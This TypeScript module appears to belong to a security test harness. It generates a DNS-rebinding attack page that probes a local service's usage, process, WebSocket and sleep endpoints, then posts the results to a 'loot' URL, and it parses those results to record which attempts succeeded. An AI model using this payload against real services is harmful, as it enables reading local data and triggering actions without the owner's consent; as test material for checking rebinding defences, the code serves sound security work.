/** The attempts of a page whose own name leads to the service, and their results. */
import type { Resource } from '../attack/attacker.ts';
import { REBIND } from '../attack/scripts.ts';

/** Whether each attempt succeeded. */
export interface Tries {
  readonly usage: boolean;
  readonly processes: boolean;
  readonly socket: boolean;
  readonly sleep: boolean;
}

/** The path that each attempt asks for. */
export const PATHS: Readonly<Record<keyof Tries, string>> = {
  usage: '/api/usage',
  processes: '/api/processes',
  socket: '/api/ws',
  sleep: '/api/pw/sleep',
};

/** `tryAll()` makes all attempts, and yields what each one got as JSON. */
const TRY_ALL = `
const orFailure = (promise) => promise.catch((error) => 'failed: ' + error);
const textOf = (path, init) =>
  orFailure(fetch(path, init).then(async (answer) => answer.status + ' ' + (await answer.text()).slice(0, 200)));
const message = () => new Promise((resolve) => {
  const socket = new WebSocket(location.origin.replace('http', 'ws') + '${PATHS.socket}');
  socket.onmessage = (event) => { socket.close(); resolve(event.data); };
  socket.onerror = () => resolve('failed: no socket');
});
const tryAll = async () => JSON.stringify({
  usage: await textOf('${PATHS.usage}'),
  processes: await textOf('${PATHS.processes}'),
  socket: await message(),
  sleep: await textOf('${PATHS.sleep}', { method: 'POST' }),
});
`;

/** For a page of the service itself: an expression. */
export const TRY_ALL_HERE = `(async () => { ${TRY_ALL} return await tryAll(); })()`;

/** A page of the attacker that has its name rebound, makes all attempts and reports to `loot`. */
export function attackPage(base: string, loot: string): Resource {
  return {
    body: `<!doctype html><meta charset="utf-8"><title>attack</title><script>
${REBIND(base)} ${TRY_ALL}
const say = (text) => fetch(${JSON.stringify(loot)}, { method: 'POST', mode: 'no-cors', body: text });
rebind().then(tryAll).then(say, (error) => say('failed: ' + error));
</script>`,
  };
}

/** Reads what `tryAll` yielded; undefined: the page did not get that far. */
export function triesOf(text: string): Tries | undefined {
  if (!text.startsWith('{')) return undefined;
  // As the script above makes it.
  const got = JSON.parse(text) as Readonly<Record<keyof Tries, string>>;
  return {
    usage: got.usage.includes('"uptime":'),
    processes: got.processes.includes('"total_count":'),
    socket: got.socket.includes('"connected"'),
    sleep: got.sleep.startsWith('200 '),
  };
}
